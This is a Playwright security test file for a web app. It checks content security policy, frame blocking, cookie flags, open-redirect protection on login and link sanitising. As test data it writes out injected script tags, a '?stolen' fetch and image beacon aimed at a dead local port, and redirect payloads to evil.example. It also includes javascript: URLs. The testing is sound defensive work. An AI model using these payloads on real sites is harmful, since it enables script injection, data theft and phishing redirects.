/// <reference lib="dom" />
import type { Project, Task } from '@baton/dto';
import { type BrowserContext, expect, type Page, test } from '@playwright/test';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { Person } from '../stack/person.ts';
import { fillIn, signIn } from './sign-in.ts';

const site = process.env['SITE_URL'] as string;

let ada: Person;
test.beforeAll(async () => {
  ada = await Person.signUp(site, 'Ada');
});

async function openHome(context: BrowserContext): Promise<Page> {
  const page = await context.newPage();
  await page.goto(`${site}/login`);
  await fillIn(page, ada);
  await expect(page).toHaveURL(`${site}/`);
  return page;
}

test('what somebody gets into a page does not run, load or send anything', async ({ context }) => {
  const page = await openHome(context);
  const violated = await page.evaluate(async () => {
    const { promise, resolve } = Promise.withResolvers<true>();
    const directives = new Set<string>();
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
      directives.add(effectiveDirective);
      if (directives.size === 6) resolve(true);
    });
    const add = (name: string, attributes: object) =>
      document.body.append(Object.assign(document.createElement(name), attributes));
    add('script', { text: 'globalThis.ran = 1' });
    add('script', { src: 'http://127.0.0.1:1/evil.js' });
    add('img', { src: 'http://127.0.0.1:1/?stolen' });
    add('iframe', { src: 'http://127.0.0.1:1/' });
    add('base', { href: 'http://127.0.0.1:1/' });
    const link = document.createElement('div');
    link.innerHTML = '<b onclick="globalThis.ran = 1">click</b>';
    document.body.append(link);
    link.querySelector('b')?.click();
    await fetch('http://127.0.0.1:1/?stolen').catch(() => undefined);
    await promise;
    return [...directives].sort();
  });
  expect(violated).toEqual([
    'base-uri',
    'connect-src',
    'frame-src',
    'img-src',
    'script-src-attr',
    'script-src-elem',
  ]);
  expect(await page.evaluate(() => 'ran' in globalThis)).toBe(false);
});

test('no other page shows the site in a frame', async ({ page }) => {
  const server = createServer((_request, response) => {
    response.setHeader('content-type', 'text/html').end(`<iframe src="${site}/login"></iframe>`);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  try {
    const refused = page.waitForEvent('console', (message) => message.text().includes('frame-ancestors'));
    await page.goto(`http://127.0.0.1:${(server.address() as AddressInfo).port}/`);
    await refused;
    await expect(page.frameLocator('iframe').getByLabel('Email')).toHaveCount(0);
  } finally {
    server.closeAllConnections();
    server.close();
  }
});

test('the one cookie is out of reach for scripts and other sites, and no token is kept in storage', async ({
  context,
}) => {
  const page = await openHome(context);
  const cookies = await context.cookies(`${site}/auth/refresh`);
  expect(cookies).toMatchObject([
    { name: 'baton_refresh', path: '/auth', httpOnly: true, secure: true, sameSite: 'Strict' },
  ]);
  expect(await context.cookies(`${site}/api/projects`)).toEqual([]);
  const stored = await page.evaluate(() =>
    JSON.stringify([document.cookie, { ...localStorage }, { ...sessionStorage }]),
  );
  expect(stored).not.toMatch(/eyJ|refresh|password/i);
  expect(stored).not.toContain(cookies[0]?.value ?? '');
});

for (const next of [
  'https://evil.example/',
  '//evil.example/',
  String.raw`/\evil.example/`,
  '/%09/evil.example',
  'javascript:globalThis.ran=1',
]) {
  test(`signing in leads to no other site by ?next=${next}`, async ({ context }) => {
    const page = await context.newPage();
    await page.goto(`${site}/login?next=${encodeURIComponent(next)}`);
    await fillIn(page, ada);
    await expect(page).not.toHaveURL(/\/login/);
    expect(new URL(page.url()).origin).toBe(site);
    expect(await page.evaluate(() => 'ran' in globalThis)).toBe(false);
  });
}

test('a link in a description to another site tells it nothing and gets no hold of the page', async ({
  browser,
}) => {
  const { body: project } = await ada.must<Project>('POST', '/api/projects', { key: 'HREF', name: 'Links' });
  await ada.must<Task>('POST', `/api/projects/${project.id}/tasks`, {
    title: 'Links',
    description: '[elsewhere](https://elsewhere.example/) and [script](javascript:alert(1))',
  });
  const page = await signIn(browser, ada, '/p/HREF/1');
  const link = page.getByRole('link', { name: 'elsewhere' });
  await expect(link).toHaveAttribute('rel', /noopener noreferrer/);
  await expect(page.getByText('script', { exact: false }).first()).toBeVisible();
  await expect(page.locator('a[href^="javascript:" i]')).toHaveCount(0);
});
